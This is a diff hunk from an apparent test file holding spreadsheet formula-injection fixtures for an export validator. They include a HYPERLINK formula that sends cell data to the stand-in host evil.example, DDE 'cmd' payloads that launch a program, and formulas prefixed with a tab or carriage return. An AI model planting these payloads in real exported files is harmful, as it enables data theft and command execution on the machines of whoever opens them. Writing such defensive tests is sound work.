@@ -99,10 +99,10 @@ FORMULA_EVENTS = {  # id: (title, summary, date_basis)
     "formula-a": (
         '=HYPERLINK("https://evil.example/?"&A1,"Click")',
         "+cmd|' /C calc'!A0",
-        "-2+3+cmd|' /C calc'!A0",
+        "-1+1+cmd|' /C calc'!A0",
     ),
-    "formula-b": ("@SUM(1+1)", "@SUM(1+1) in a summary", "@SUM(3+3)"),
-}
+    "formula-b": ("@SUM(1+1)", "@SUM(1+1) in a summary", "@SUM(1+1) in a basis"),
+}  # every number is the quote's: numbers in our own words must be
 # The validator need not refuse a leading tab or carriage return: the export must not rely on it.
 CONTROL_STARTS = {"formula-b": {"title": "\t=1+1", "summary": "\r=2+2 in a summary"}}
 
